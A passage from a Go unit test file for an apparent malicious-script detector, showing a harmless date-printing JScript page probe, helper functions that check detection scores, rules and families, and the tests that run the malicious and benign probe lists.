		src: "<%@ Page Language=\"JScript\" %>\n<script runat=\"server\">\nfunction fmt(d : DateTime) : String { return d.ToString(\"yyyy-MM-dd\"); }\n</script>\n<% Response.Write(fmt(DateTime.Now)); %>"},
}

func utf16le(s string) []byte {
	b := []byte{0xFF, 0xFE}
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return b
}

func checkProbe(t *testing.T, p probe, ds []verdict.Detection) {
	t.Helper()
	got := verdict.Max(ds)
	if got < p.min || p.max > 0 && got > p.max || p.max == 0 && p.min == 0 && got > 0 {
		t.Errorf("%s: score %d, want [%d, %d]; detections: %s", p.name, got, p.min, p.max, summary(ds))
	}
	if p.rule != "" && !hasRule(ds, p.rule) {
		t.Errorf("%s: no %s in %s", p.name, p.rule, summary(ds))
	}
	if p.family != "" {
		found := false
		for _, d := range ds {
			if d.Family == p.family {
				found = true
			}
		}
		if !found {
			t.Errorf("%s: family %s not recognised: %s", p.name, p.family, summary(ds))
		}
	}
	for _, d := range ds {
		if d.Why == "" || d.WhyZh == "" || d.Rule == "" {
			t.Errorf("%s: detection without rule or explanation: %+v", p.name, d)
		}
		for _, pt := range append(append([]verdict.Point{}, d.Steps...), ptrs(d.Source, d.Sink)...) {
			if len(pt.Excerpt) > verdict.ExcerptMax+8 {
				t.Errorf("%s: excerpt too long (%d)", p.name, len(pt.Excerpt))
			}
		}
	}
}

func ptrs(ps ...*verdict.Point) []verdict.Point {
	var out []verdict.Point
	for _, p := range ps {
		if p != nil {
			out = append(out, *p)
		}
	}
	return out
}

func hasRule(ds []verdict.Detection, rule string) bool {
	for _, d := range ds {
		if d.Rule == rule {
			return true
		}
	}
	return false
}

func summary(ds []verdict.Detection) string {
	var b strings.Builder
	for _, d := range ds {
		b.WriteString(d.Rule)
		b.WriteByte(':')
		b.WriteString(itoa(d.Score))
		if d.Family != "" {
			b.WriteString("(" + d.Family + ")")
		}
		b.WriteByte(' ')
	}
	if b.Len() == 0 {
		return "(none)"
	}
	return b.String()
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	var d []byte
	for n > 0 {
		d = append([]byte{byte('0' + n%10)}, d...)
		n /= 10
	}
	return string(d)
}

func TestMaliciousProbes(t *testing.T) {
	for _, p := range maliciousProbes {
		ds := Analyze([]byte(p.src))
		checkProbe(t, p, ds)
		checkDecide(t, p.name, []byte(p.src), ds)
	}
}

func TestBenignProbes(t *testing.T) {
	for _, p := range benignProbes {
		if p.max == 0 {
			p.max = -1 // nothing at all
		}
		ds := Analyze([]byte(p.src))
		checkDecide(t, p.name, []byte(p.src), ds)
		got := verdict.Max(ds)
		limit := p.max
		if limit < 0 {
			limit = 0
		}
		if got > limit || got >= verdict.Report {
			t.Errorf("%s: score %d, want <= %d (and < %d): %s", p.name, got, limit, verdict.Report, summary(ds))
		}
	}
}
